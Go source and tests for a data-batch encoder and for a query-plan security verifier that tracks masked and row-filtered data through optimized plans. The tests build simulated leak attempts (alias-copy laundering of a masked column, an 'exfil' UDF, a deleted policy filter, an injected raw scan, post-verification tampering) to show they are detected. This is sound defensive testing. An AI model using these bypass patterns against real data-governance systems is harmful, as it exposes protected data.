		t.Fatal(err)
	}

	rd, err := NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !rd.Schema().Equal(schema) {
		t.Fatalf("schema mismatch: %s", rd.Schema())
	}
	got, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || !batchesEqual(got[0], b1) || !batchesEqual(got[1], b2) {
		t.Fatal("round trip mismatch")
	}
	// Reading past EOF keeps returning EOF.
	if _, err := rd.Next(); err != io.EOF {
		t.Errorf("post-end read err = %v", err)
	}
}

func TestEmptyBatchAndEmptyStream(t *testing.T) {
	schema := sampleSchema()
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, schema)
	empty := types.NewBatchBuilder(schema, 0).Build()
	if err := w.WriteBatch(empty); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rd, err := NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	got, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].NumRows() != 0 {
		t.Fatal("empty batch round trip failed")
	}
}

func TestWriteAfterClose(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, sampleSchema())
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteBatch(sampleBatch(1, 3)); err != ErrClosed {
		t.Errorf("want ErrClosed, got %v", err)
	}
	// Double close is fine.
	if err := w.Close(); err != nil {
		t.Errorf("double close: %v", err)
	}
}

func TestSchemaMismatchRejected(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, sampleSchema())
	other := types.NewBatchBuilder(types.NewSchema(types.Field{Name: "x", Kind: types.KindInt64}), 0).Build()
	if err := w.WriteBatch(other); err == nil {
		t.Error("expected schema mismatch error")
	}
}

func TestEncodeDecodeBatch(t *testing.T) {
	b := sampleBatch(57, 4)
	data, err := EncodeBatch(b)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeBatch(data)
	if err != nil {
		t.Fatal(err)
	}
	if !batchesEqual(b, got) {
		t.Fatal("EncodeBatch/DecodeBatch mismatch")
	}
}

func TestCorruptInput(t *testing.T) {
	b := sampleBatch(10, 5)
	data, _ := EncodeBatch(b)
	// Truncations at every prefix must error, never panic.
	for cut := 0; cut < len(data); cut += 7 {
		if _, err := DecodeBatch(data[:cut]); err == nil {
			t.Errorf("truncation at %d: expected error", cut)
		}
	}
	// Corrupt the length prefix.
	bad := append([]byte{}, data...)
	bad[0], bad[1], bad[2], bad[3] = 0xff, 0xff, 0xff, 0xff
	if _, err := DecodeBatch(bad); err == nil {
		t.Error("corrupt length accepted")
	}
}

func TestConcatBatches(t *testing.T) {
	schema := types.NewSchema(types.Field{Name: "n", Kind: types.KindInt64})
	mk := func(vals ...int64) *types.Batch {
		bb := types.NewBatchBuilder(schema, len(vals))
		for _, v := range vals {
			bb.AppendRow([]types.Value{types.Int64(v)})
		}
		return bb.Build()
	}
	got, err := ConcatBatches(schema, []*types.Batch{mk(1, 2), mk(3)})
	if err != nil {
		t.Fatal(err)
	}
	if got.NumRows() != 3 || got.Cols[0].Int64(2) != 3 {
		t.Fatal("concat wrong")
	}
	empty, err := ConcatBatches(schema, nil)
	if err != nil || empty.NumRows() != 0 {
		t.Fatal("empty concat wrong")
	}
}

// Property: round trip is identity for arbitrary int/string/null content.
func TestPropertyRoundTrip(t *testing.T) {
	schema := types.NewSchema(
		types.Field{Name: "a", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "b", Kind: types.KindString, Nullable: true},
	)
	f := func(ints []int64, strs []string, nullEvery uint8) bool {
		n := len(ints)
		if len(strs) < n {
			n = len(strs)
		}
		bb := types.NewBatchBuilder(schema, n)
		for i := 0; i < n; i++ {
			row := []types.Value{types.Int64(ints[i]), types.String(strs[i])}
			if nullEvery > 0 && i%int(nullEvery+1) == 0 {
				row[i%2] = types.Null(schema.Fields[i%2].Kind)
			}
			bb.AppendRow(row)
		}
		b := bb.Build()
		data, err := EncodeBatch(b)
		if err != nil {
			return false
		}
		got, err := DecodeBatch(data)
		if err != nil {
			return false
		}
		return batchesEqual(b, got)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestFloatSpecialsRoundTrip(t *testing.T) {
	schema := types.NewSchema(types.Field{Name: "f", Kind: types.KindFloat64, Nullable: true})
	bb := types.NewBatchBuilder(schema, 4)
	for _, f := range []float64{math.Inf(1), math.Inf(-1), math.NaN(), math.Copysign(0, -1)} {
		bb.AppendRow([]types.Value{types.Float64(f)})
	}
	b := bb.Build()
	data, _ := EncodeBatch(b)
	got, err := DecodeBatch(data)
	if err != nil {
		t.Fatal(err)
	}
	if !math.IsInf(got.Cols[0].Float64(0), 1) || !math.IsInf(got.Cols[0].Float64(1), -1) || !math.IsNaN(got.Cols[0].Float64(2)) {
		t.Fatal("float specials mangled")
	}
	if math.Signbit(got.Cols[0].Float64(3)) != true {
		t.Fatal("-0.0 sign lost")
	}
}
