package arrowipc

import "testing"

func BenchmarkEncodeBatch(b *testing.B) {
	batch := sampleBatch(8192, 1)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := EncodeBatch(batch); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(8192 * 40)) // rough row width
}

func BenchmarkDecodeBatch(b *testing.B) {
	data, err := EncodeBatch(sampleBatch(8192, 1))
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := DecodeBatch(data); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(len(data)))
}
