package sentinel

import (
	"strings"
	"testing"

	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// labeledSales is governedSales with the labels the analyzer now seeds:
// a column_mask on amount and a row_filter (plus tenant_scope when asked).
func labeledSales(tenant bool) *plan.SecureView {
	sv := governedSales()
	sv.Labels = []plan.Label{
		{Kind: plan.LabelRowFilter, Securable: "main.default.sales"},
		{Kind: plan.LabelColumnMask, Securable: "main.default.sales", Column: "amount"},
	}
	if tenant {
		sv.Labels = append(sv.Labels,
			plan.Label{Kind: plan.LabelTenantScope, Securable: "main.default.sales"})
	}
	return sv
}

func TestDataflowCleanPlanDischarges(t *testing.T) {
	analyzed := userQuery(labeledSales(false))
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := Verify(analyzed, optimized)
	mustClean(t, r)
	if r.Labels != 2 {
		t.Errorf("Labels = %d, want 2", r.Labels)
	}
	// The barrier line must carry the discharge summary for explain output.
	found := false
	for n, ls := range r.Discharged {
		if _, ok := n.(*plan.SecureView); ok && len(ls) > 0 {
			found = true
		}
	}
	if !found {
		t.Error("no discharged labels recorded on the SecureView barrier")
	}
	out := ExplainVerified(optimized, r)
	if !strings.Contains(out, "discharged:") ||
		!strings.Contains(out, "column_mask:main.default.sales.amount") {
		t.Errorf("ExplainVerified missing discharge annotation:\n%s", out)
	}
	if strings.Contains(out, "US") {
		t.Errorf("ExplainVerified leaks policy literal:\n%s", out)
	}
}

// TestAliasCopyLaundering is the gap the dataflow pass exists to close: the
// mask projection keeps a correct mask for "amount" but also emits the raw
// value under a fresh name. Every name-based check passes — the mask is
// present and nothing *called* "amount" escapes — but the label travels with
// the value and is caught at the barrier boundary.
func TestAliasCopyLaundering(t *testing.T) {
	build := func(labeled bool) (plan.Node, plan.Node) {
		sc := salesScan()
		f := &plan.Filter{Cond: regionUS(3), Child: sc}
		outSchema := types.NewSchema(
			types.Field{Name: "amount", Kind: types.KindFloat64},
			types.Field{Name: "date", Kind: types.KindString},
			types.Field{Name: "seller", Kind: types.KindString},
			types.Field{Name: "region", Kind: types.KindString},
			types.Field{Name: "cc", Kind: types.KindFloat64},
		)
		proj := &plan.Project{
			Exprs: []plan.Expr{
				plan.As(amountMask(0), "amount"),
				ref(1, "date", types.KindString),
				ref(2, "seller", types.KindString),
				ref(3, "region", types.KindString),
				plan.As(ref(0, "amount", types.KindFloat64), "cc"), // raw copy
			},
			Child:     f,
			OutSchema: outSchema,
		}
		sv := &plan.SecureView{
			Name:        "main.default.sales",
			PolicyKinds: []string{"row_filter", "column_mask"},
			Child:       proj,
		}
		if labeled {
			sv.Labels = []plan.Label{
				{Kind: plan.LabelRowFilter, Securable: "main.default.sales"},
				{Kind: plan.LabelColumnMask, Securable: "main.default.sales", Column: "amount"},
			}
		}
		root := &plan.Project{
			Exprs: []plan.Expr{ref(4, "cc", types.KindFloat64)},
			Child: sv,
			OutSchema: types.NewSchema(
				types.Field{Name: "cc", Kind: types.KindFloat64}),
		}
		return root, root
	}

	// Without labels the structural invariants are blind to the copy.
	analyzed, optimized := build(false)
	mustClean(t, Verify(analyzed, optimized))

	// With labels the copy is a proven leak, attributed to the mask label.
	analyzed, optimized = build(true)
	v := mustViolate(t, Verify(analyzed, optimized), InvLabelFlow)
	if !strings.Contains(v.Detail, "column_mask:main.default.sales.amount") {
		t.Errorf("violation should name the label, got %q", v.Detail)
	}
	if !strings.Contains(v.Detail, "cc") {
		t.Errorf("violation should name the escaping column, got %q", v.Detail)
	}
}

// TestUDFArgSink: a UDF that was present at analysis time (so the trust-
// domain invariant accepts it) still may not receive a labeled argument.
func TestUDFArgSink(t *testing.T) {
	mkPlan := func() plan.Node {
		sc := salesScan()
		udf := &plan.UDFCall{
			Name: "exfil", Owner: "mallory@corp.com", Body: "return x",
			ArgNames:   []string{"x"},
			Args:       []plan.Expr{ref(0, "amount", types.KindFloat64)},
			ResultKind: types.KindBool,
		}
		f := &plan.Filter{Cond: udf, Child: sc}
		pf := &plan.Filter{Cond: regionUS(3), Child: f}
		proj := &plan.Project{
			Exprs: []plan.Expr{
				plan.As(amountMask(0), "amount"),
				ref(1, "date", types.KindString),
				ref(2, "seller", types.KindString),
				ref(3, "region", types.KindString),
			},
			Child:     pf,
			OutSchema: salesSchema(),
		}
		sv := &plan.SecureView{
			Name:        "main.default.sales",
			PolicyKinds: []string{"row_filter", "column_mask"},
			Labels: []plan.Label{
				{Kind: plan.LabelRowFilter, Securable: "main.default.sales"},
				{Kind: plan.LabelColumnMask, Securable: "main.default.sales", Column: "amount"},
			},
			Child: proj,
		}
		return userQuery(sv)
	}
	// Identical analyzed/optimized pair: the UDF was "always there", so
	// no-udf-below-barrier cannot object — only the label sink can.
	r := Verify(mkPlan(), mkPlan())
	v := mustViolate(t, r, InvLabelSink)
	if !strings.Contains(v.Detail, "exfil") || !strings.Contains(v.Detail, "mallory@corp.com") {
		t.Errorf("violation should name UDF and trust domain, got %q", v.Detail)
	}
	if !strings.Contains(v.Detail, "column_mask:main.default.sales.amount") {
		t.Errorf("violation should name the label, got %q", v.Detail)
	}
}

// TestRowLabelEscapesWithTenantScope: dropping the policy filter from the
// optimized plan leaves the row_filter and tenant_scope labels undischarged.
func TestRowLabelEscapesWithTenantScope(t *testing.T) {
	analyzed := userQuery(labeledSales(true))
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	// A hostile rewrite deletes the pushed policy predicate.
	broken := plan.Transform(optimized, func(x plan.Node) plan.Node {
		if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
			return &plan.Scan{Table: sc.Table, TableSchema: sc.TableSchema,
				Version: sc.Version, ProjectedCols: sc.ProjectedCols, RunAsUser: sc.RunAsUser}
		}
		return x
	})
	r := Verify(analyzed, broken)
	// Both the structural row-filter invariant and the label flow fire.
	mustViolate(t, r, InvRowFilter)
	v := mustViolate(t, r, InvLabelFlow)
	all := ""
	for _, x := range r.Violations {
		all += x.Detail + "\n"
	}
	if !strings.Contains(all, "tenant_scope:main.default.sales") {
		t.Errorf("violations should include the tenant_scope label, got:\n%s", all)
	}
	if strings.Contains(v.Detail, "'US'") {
		t.Errorf("violation leaks policy literal: %q", v.Detail)
	}
}

// TestFilterObservesMaskedColumn: a non-policy predicate evaluated on the
// raw masked value (between scan and mask projection) is an implicit flow.
func TestFilterObservesMaskedColumn(t *testing.T) {
	mk := func(inject bool) plan.Node {
		sc := salesScan()
		var node plan.Node = &plan.Filter{Cond: regionUS(3), Child: sc}
		if inject {
			node = &plan.Filter{Cond: &plan.Binary{Op: plan.OpGt,
				L: ref(0, "amount", types.KindFloat64), R: plan.Lit(types.Float64(100)),
				ResultKind: types.KindBool}, Child: node}
		}
		proj := &plan.Project{
			Exprs: []plan.Expr{
				plan.As(amountMask(0), "amount"),
				ref(1, "date", types.KindString),
				ref(2, "seller", types.KindString),
				ref(3, "region", types.KindString),
			},
			Child:     node,
			OutSchema: salesSchema(),
		}
		return userQuery(&plan.SecureView{
			Name:        "main.default.sales",
			PolicyKinds: []string{"row_filter", "column_mask"},
			Labels: []plan.Label{
				{Kind: plan.LabelRowFilter, Securable: "main.default.sales"},
				{Kind: plan.LabelColumnMask, Securable: "main.default.sales", Column: "amount"},
			},
			Child: proj,
		})
	}
	mustClean(t, Verify(mk(false), mk(false)))
	r := Verify(mk(false), mk(true))
	v := mustViolate(t, r, InvLabelFlow)
	if !strings.Contains(v.Detail, "amount") {
		t.Errorf("violation should name the observed column, got %q", v.Detail)
	}
	if strings.Contains(v.Detail, "100") {
		t.Errorf("violation leaks predicate literal: %q", v.Detail)
	}
}

// TestSelfJoinInstances: two occurrences of the governed table carry
// independently tracked labels (#0 and #1); breaking one barrier flags only
// that instance.
func TestSelfJoinInstances(t *testing.T) {
	analyzed := &plan.Join{
		Type: plan.JoinInner,
		Cond: &plan.Binary{Op: plan.OpEq,
			L: ref(2, "seller", types.KindString), R: ref(6, "seller", types.KindString),
			ResultKind: types.KindBool},
		L: labeledSales(false),
		R: labeledSales(false),
	}
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	mustClean(t, Verify(analyzed, optimized))
}

func TestSealDetectsTamper(t *testing.T) {
	analyzed := userQuery(labeledSales(false))
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := Verify(analyzed, optimized)
	mustClean(t, r)

	sealed, err := Seal(optimized, r)
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	if sealed.Fingerprint() != r.Fingerprint {
		t.Fatalf("seal fingerprint %s != report %s", sealed.Fingerprint(), r.Fingerprint)
	}
	if err := sealed.Check(); err != nil {
		t.Fatalf("Check on untouched seal: %v", err)
	}

	// Mutating the ORIGINAL plan after sealing must not affect the seal:
	// the sealed copy is detached.
	plan.Walk(optimized, func(n plan.Node) bool {
		if sc, ok := n.(*plan.Scan); ok {
			sc.PushedFilters = nil
		}
		return true
	})
	if err := sealed.Check(); err != nil {
		t.Fatalf("Check after mutating the original: %v", err)
	}

	// Mutating the sealed tree itself (TOCTOU) is caught.
	plan.Walk(sealed.Plan, func(n plan.Node) bool {
		if sc, ok := n.(*plan.Scan); ok {
			sc.PushedFilters = nil
		}
		return true
	})
	err = sealed.Check()
	if err == nil {
		t.Fatal("Check accepted a tampered sealed plan")
	}
	if !strings.Contains(err.Error(), string(InvSeal)) {
		t.Errorf("error should name %s, got: %v", InvSeal, err)
	}
}

// TestInjectedScanGetsLabeledSink: a raw scan of the governed table spliced
// in outside any barrier is reported both structurally (barrier escape) and
// as a labeled sink, so the audit event names what leaked.
func TestInjectedScanGetsLabeledSink(t *testing.T) {
	analyzed := userQuery(labeledSales(false))
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	hostile := &plan.Union{L: optimized, R: &plan.Project{
		Exprs: []plan.Expr{ref(0, "amount", types.KindFloat64), ref(2, "seller", types.KindString)},
		Child: salesScan(),
		OutSchema: types.NewSchema(
			types.Field{Name: "amount", Kind: types.KindFloat64},
			types.Field{Name: "seller", Kind: types.KindString}),
	}}
	r := Verify(analyzed, hostile)
	mustViolate(t, r, InvBarrier)
	v := mustViolate(t, r, InvLabelSink)
	if !strings.Contains(v.Detail, "column_mask:main.default.sales.amount") {
		t.Errorf("sink violation should name the label, got %q", v.Detail)
	}
}
