package sentinel

import (
	"fmt"

	"lakeguard/internal/plan"
)

// Sealed is a verified plan pinned against time-of-check/time-of-use drift.
// Verification proves properties of a plan *value*; execution runs a plan
// *pointer* — and anything holding a reference to that pointer's tree (a
// hostile ExtraRule, a misbehaving cache) can rewrite it in the window
// between the two. Seal closes the window by deep-copying the verified plan
// into a private tree and recording its fingerprint; Check re-fingerprints
// immediately before execution and refuses to run a plan that no longer
// matches what was verified.
type Sealed struct {
	// Plan is the private deep copy. Execute this, never the original.
	Plan plan.Node
	// fingerprint is the verified fingerprint the plan must still match.
	fingerprint string
}

// Seal deep-copies the verified plan and pins it to the report's
// fingerprint. It returns an error if the copy does not reproduce the
// verified fingerprint — that means the plan mutated between verification
// and sealing, and nothing trustworthy can be executed.
func Seal(verified plan.Node, r *Report) (*Sealed, error) {
	cp := plan.Clone(verified)
	got := Fingerprint(cp)
	if got != r.Fingerprint {
		return nil, &ViolationError{
			Fingerprint: r.Fingerprint,
			Violations: []Violation{{
				Invariant: InvSeal,
				Securable: "plan",
				Detail: fmt.Sprintf(
					"plan changed between verification and sealing: verified %s, sealing %s",
					r.Fingerprint, got),
			}},
		}
	}
	return &Sealed{Plan: cp, fingerprint: got}, nil
}

// Fingerprint returns the fingerprint the seal pins.
func (s *Sealed) Fingerprint() string { return s.fingerprint }

// Check re-fingerprints the sealed plan and returns a *ViolationError if it
// no longer matches the verified fingerprint. Call it immediately before
// handing the plan to the executor.
func (s *Sealed) Check() error {
	if got := Fingerprint(s.Plan); got != s.fingerprint {
		return &ViolationError{
			Fingerprint: s.fingerprint,
			Violations: []Violation{{
				Invariant: InvSeal,
				Securable: "plan",
				Detail: fmt.Sprintf(
					"plan mutated after verification: verified %s, executing %s",
					s.fingerprint, got),
			}},
		}
	}
	return nil
}
