package sentinel

import (
	"fmt"
	"strings"

	"lakeguard/internal/plan"
)

// This file implements the sentinel's information-flow pass. The structural
// invariants in sentinel.go check that policy *operators* survive
// optimization; the dataflow pass checks that policy *data* cannot route
// around them. Every governed source column is tagged with the labels the
// analyzer seeded on its SecureView barrier (column_mask per masked column,
// row_filter/tenant_scope for the row policy), the labels propagate bottom-up
// through the optimized plan's projections, filters, joins, and aggregates in
// a powerset lattice (join = union), and each label must be discharged by the
// surviving policy operator that implements it — the mask expression for a
// column_mask, the complete set of policy conjuncts for a row_filter — before
// the flow crosses the barrier boundary. Whatever survives to a sink (the
// client-facing root, a sandboxed UDF argument) is a proven leak, reported
// with the violated label so the audit trail can attribute it.
//
// This closes the copy/alias gap in the name-based mask check: `seller AS cc`
// inside a barrier launders the raw column past any check that looks for the
// *name* "seller", but the label travels with the value, not the name.

// flow is the lattice value for one plan node: a label set per output column
// plus a row-level set for obligations that constrain which rows may be
// observed at all.
type flow struct {
	cols []plan.LabelSet
	rows plan.LabelSet
}

// dataflow carries the per-verification propagation state.
type dataflow struct {
	r *Report
	// ob maps each optimized barrier to its analyzed obligation (nil when
	// the barrier failed structural matching; flow then passes through).
	ob map[*plan.SecureView]*obligation
	// byTable finds the obligation governing a table, for labeling scans an
	// attacker injected outside any barrier.
	byTable map[string]*obligation
	// pending tracks, per row-obligation, the canonical policy conjuncts not
	// yet applied on the path from the scan.
	pending map[*obligation]map[string]bool
	// owner maps a seeded label back to its obligation (for discharge).
	owner map[plan.Label]*obligation
}

// verifyDataflow runs the information-flow pass over the optimized plan and
// records InvLabelFlow / InvLabelSink violations on the report.
func (r *Report) verifyDataflow(obligations []*obligation, optimized plan.Node) {
	d := &dataflow{
		r:       r,
		ob:      map[*plan.SecureView]*obligation{},
		byTable: map[string]*obligation{},
		pending: map[*obligation]map[string]bool{},
		owner:   map[plan.Label]*obligation{},
	}
	barriers := collectSecureViews(optimized)
	for i, sv := range barriers {
		if i < len(obligations) && obligations[i].name == sv.Name {
			d.ob[sv] = obligations[i]
		}
	}
	for _, o := range obligations {
		r.Labels += len(o.labels)
		if o.table != "" {
			if _, dup := d.byTable[o.table]; !dup {
				d.byTable[o.table] = o
			}
		}
		for _, l := range o.labels {
			d.owner[l] = o
		}
	}

	root := d.visit(optimized, nil)

	// Root sink: whatever is still labeled here would be returned to the
	// client raw. (Labels of matched barriers were checked and stripped at
	// their barrier boundary; anything left comes from injected scans or
	// structurally broken barriers.)
	schema := optimized.Schema()
	for i, ls := range root.cols {
		for _, l := range ls.Labels() {
			col := "?"
			if schema != nil && i < schema.Len() {
				col = schema.Fields[i].Name
			}
			r.violate(InvLabelSink, l.Securable, fmt.Sprintf(
				"labeled column %q reaches client output with obligation %s undischarged", col, l))
		}
	}
	for _, l := range root.rows.Labels() {
		r.violate(InvLabelSink, l.Securable, fmt.Sprintf(
			"rows reach client output with obligation %s undischarged", l))
	}
}

// visit propagates labels bottom-up. enclosing is the obligation of the
// innermost enclosing matched barrier (nil outside all barriers).
func (d *dataflow) visit(n plan.Node, enclosing *obligation) flow {
	switch t := n.(type) {
	case *plan.SecureView:
		ob := d.ob[t]
		inner := enclosing
		if ob != nil {
			inner = ob
		}
		f := d.visit(t.Child, inner)
		if ob == nil {
			return f
		}
		return d.exitBarrier(t, ob, f)

	case *plan.Scan:
		return d.scanFlow(t, enclosing)

	case *plan.Filter:
		f := d.visit(t.Child, enclosing)
		d.applyFilter(t, splitConjuncts(t.Cond), &f, enclosing)
		return f

	case *plan.Project:
		f := d.visit(t.Child, enclosing)
		out := flow{cols: make([]plan.LabelSet, len(t.Exprs)), rows: f.rows}
		for i, e := range t.Exprs {
			ls := labelsOf(e, f)
			if enclosing != nil {
				if discharged, ok := d.maskDischarge(e, enclosing, ls); ok {
					ls = discharged
					d.r.discharge(n, plan.Label{
						Kind: plan.LabelColumnMask, Securable: enclosing.name,
						Column: strings.ToLower(plan.OutputName(e)), Instance: enclosing.instance,
					})
				} else {
					d.checkUDFArgs(n, e, f, enclosing)
				}
			} else {
				d.checkUDFArgs(n, e, f, enclosing)
			}
			out.cols[i] = ls
		}
		return out

	case *plan.Aggregate:
		f := d.visit(t.Child, enclosing)
		out := flow{cols: make([]plan.LabelSet, 0, len(t.GroupBy)+len(t.Aggs)), rows: f.rows}
		// Aggregation does not discharge anything: SUM over unfiltered or
		// unmasked values still reveals them. Group keys additionally taint
		// the row dimension — partitioning by a raw value leaks it through
		// every output column's cardinality.
		for _, g := range t.GroupBy {
			gl := labelsOf(g, f)
			out.cols = append(out.cols, gl)
			out.rows = out.rows.Union(gl)
			d.checkUDFArgs(n, g, f, enclosing)
		}
		for _, e := range t.Aggs {
			out.cols = append(out.cols, labelsOf(e, f))
			d.checkUDFArgs(n, e, f, enclosing)
		}
		return out

	case *plan.Join:
		lf := d.visit(t.L, enclosing)
		rf := d.visit(t.R, enclosing)
		var out flow
		switch t.Type {
		case plan.JoinLeftSemi, plan.JoinLeftAnti:
			out = flow{cols: lf.cols, rows: lf.rows.Union(rf.rows)}
		default:
			out = flow{cols: append(append([]plan.LabelSet{}, lf.cols...), rf.cols...),
				rows: lf.rows.Union(rf.rows)}
		}
		if t.Cond != nil {
			combined := flow{cols: append(append([]plan.LabelSet{}, lf.cols...), rf.cols...),
				rows: lf.rows.Union(rf.rows)}
			d.observe(n, t.Cond, combined, enclosing, "join condition")
			d.checkUDFArgs(n, t.Cond, combined, enclosing)
		}
		return out

	case *plan.Sort:
		f := d.visit(t.Child, enclosing)
		for _, o := range t.Orders {
			d.observe(n, o.Expr, f, enclosing, "sort key")
			d.checkUDFArgs(n, o.Expr, f, enclosing)
		}
		return f

	case *plan.Union:
		lf := d.visit(t.L, enclosing)
		rf := d.visit(t.R, enclosing)
		cols := make([]plan.LabelSet, len(lf.cols))
		for i := range lf.cols {
			cols[i] = lf.cols[i]
			if i < len(rf.cols) {
				cols[i] = cols[i].Union(rf.cols[i])
			}
		}
		return flow{cols: cols, rows: lf.rows.Union(rf.rows)}

	case *plan.Limit:
		return d.visit(t.Child, enclosing)
	case *plan.Distinct:
		return d.visit(t.Child, enclosing)
	case *plan.SubqueryAlias:
		return d.visit(t.Child, enclosing)

	case *plan.RemoteScan, *plan.LocalRelation, *plan.SQLRelation:
		// RemoteScan output is policy-enforced remotely (and its pushdowns
		// are vetted by InvRemotePush); local data carries no obligations.
		return emptyFlow(n)

	default:
		// Unknown node injected by a rule: propagate the union of all child
		// labels to every output column (maximally conservative).
		var rows plan.LabelSet
		var all plan.LabelSet
		for _, c := range n.Children() {
			cf := d.visit(c, enclosing)
			rows = rows.Union(cf.rows)
			for _, ls := range cf.cols {
				all = all.Union(ls)
			}
		}
		out := emptyFlow(n)
		for i := range out.cols {
			out.cols[i] = all
		}
		out.rows = rows
		return out
	}
}

// scanFlow seeds labels at a table scan. Inside the scan's own barrier the
// obligation is enclosing; a governed scan outside any barrier (plan
// injection) is seeded from the table's obligation so the leak is reported
// with its label, on top of the structural escape violation.
func (d *dataflow) scanFlow(sc *plan.Scan, enclosing *obligation) flow {
	ob := enclosing
	if ob == nil || ob.table != sc.Table {
		ob = d.byTable[sc.Table]
	}
	f := emptyFlow(sc)
	if ob == nil {
		return f
	}
	schema := sc.Schema()
	for _, l := range ob.labels {
		if l.Kind != plan.LabelColumnMask {
			continue
		}
		for i := 0; i < schema.Len(); i++ {
			if strings.ToLower(schema.Fields[i].Name) == l.Column {
				f.cols[i] = f.cols[i].Add(l)
			}
		}
	}
	if ob.hasKind("row_filter") {
		remaining := map[string]bool{}
		for _, pc := range ob.policyConjuncts {
			if !isConstTrue(pc) {
				remaining[canonical(pc)] = true
			}
		}
		for _, pf := range sc.PushedFilters {
			delete(remaining, canonical(normalize(pf)))
		}
		if len(remaining) == 0 {
			for _, l := range ob.rowLabels() {
				d.r.discharge(sc, l)
			}
		} else {
			d.pending[ob] = remaining
			for _, l := range ob.rowLabels() {
				f.rows = f.rows.Add(l)
			}
		}
	}
	// Non-policy pushed filters must not observe raw masked values.
	for _, pf := range sc.PushedFilters {
		if !ob.isPolicyConjunct(pf) {
			d.observeExpr(sc, pf, f.cols, "pushed scan filter")
			d.checkUDFArgs(sc, pf, f, enclosing)
		}
	}
	return f
}

// applyFilter handles a Filter's conjuncts: policy conjuncts discharge row
// obligations; anything else is an observer that may not see raw masked
// columns and may not feed UDFs labeled data.
func (d *dataflow) applyFilter(n plan.Node, conjuncts []plan.Expr, f *flow, enclosing *obligation) {
	for _, c := range conjuncts {
		cc := canonical(normalize(c))
		matched := false
		for _, l := range f.rows.Labels() {
			ob := d.owner[l]
			if ob == nil || !d.pending[ob][cc] {
				continue
			}
			matched = true
			delete(d.pending[ob], cc)
			if len(d.pending[ob]) == 0 {
				for _, rl := range ob.rowLabels() {
					f.rows = f.rows.Without(rl)
					d.r.discharge(n, rl)
				}
			}
		}
		// A conjunct that textually matches the enclosing policy predicate
		// is policy machinery even when already discharged at the scan.
		if matched || (enclosing != nil && enclosing.isPolicyConjunct(c)) {
			continue
		}
		d.observeExpr(n, c, f.cols, "filter predicate")
		d.checkUDFArgs(n, c, *f, enclosing)
	}
}

// exitBarrier enforces the discharge contract at the barrier boundary: every
// label this obligation seeded must be gone from the outgoing flow. Surviving
// labels are violations, reported here (the most precise point) and stripped
// so the root sink does not double-report them.
func (d *dataflow) exitBarrier(sv *plan.SecureView, ob *obligation, f flow) flow {
	if len(ob.labels) == 0 {
		return f
	}
	mine := map[plan.Label]bool{}
	for _, l := range ob.labels {
		mine[l] = true
	}
	ok := true
	schema := sv.Schema()
	for i := range f.cols {
		for _, l := range f.cols[i].Labels() {
			if !mine[l] {
				continue
			}
			ok = false
			col := "?"
			if schema != nil && i < schema.Len() {
				col = schema.Fields[i].Name
			}
			d.r.violate(InvLabelFlow, ob.name, fmt.Sprintf(
				"obligation %s escapes the policy barrier through column %q without being discharged", l, col))
			f.cols[i] = f.cols[i].Without(l)
		}
	}
	for _, l := range f.rows.Labels() {
		if !mine[l] {
			continue
		}
		ok = false
		d.r.violate(InvLabelFlow, ob.name, fmt.Sprintf(
			"obligation %s escapes the policy barrier: rows leave without the full policy predicate applied", l))
		f.rows = f.rows.Without(l)
	}
	if ok {
		d.r.clear(sv, InvLabelFlow)
		// Annotate the barrier itself: its interior is redacted in
		// --explain-verified, so the boundary line carries the summary.
		for _, l := range ob.labels {
			d.r.discharge(sv, l)
		}
	}
	return f
}

// maskDischarge reports whether projection item e implements the enclosing
// obligation's mask for its output column; if so it returns the item's label
// set with that column's mask label removed.
func (d *dataflow) maskDischarge(e plan.Expr, ob *obligation, ls plan.LabelSet) (plan.LabelSet, bool) {
	col := strings.ToLower(plan.OutputName(e))
	want, masked := ob.masks[col]
	if !masked {
		return ls, false
	}
	if canonical(normalize(e)) != canonical(want) {
		return ls, false
	}
	l := plan.Label{Kind: plan.LabelColumnMask, Securable: ob.name, Column: col, Instance: ob.instance}
	if !ls.Has(l) {
		return ls, false
	}
	return ls.Without(l), true
}

// observe flags an expression that inspects a raw masked value without being
// policy machinery (implicit flows: filtering, joining, or ordering on the
// raw value leaks it even if it is never projected).
func (d *dataflow) observe(n plan.Node, e plan.Expr, f flow, enclosing *obligation, what string) {
	if enclosing != nil && enclosing.isPolicyConjunct(e) {
		return
	}
	d.observeExpr(n, e, f.cols, what)
}

func (d *dataflow) observeExpr(n plan.Node, e plan.Expr, cols []plan.LabelSet, what string) {
	seen := map[plan.Label]bool{}
	plan.WalkExpr(e, func(x plan.Expr) bool {
		b, ok := x.(*plan.BoundRef)
		if !ok || b.Index < 0 || b.Index >= len(cols) {
			return true
		}
		for _, l := range cols[b.Index].Labels() {
			if l.Kind != plan.LabelColumnMask || seen[l] {
				continue
			}
			seen[l] = true
			d.r.violate(InvLabelFlow, l.Securable, fmt.Sprintf(
				"%s %s observes column %q while it still carries obligation %s",
				what, redacted(e), b.Name, l))
		}
		return true
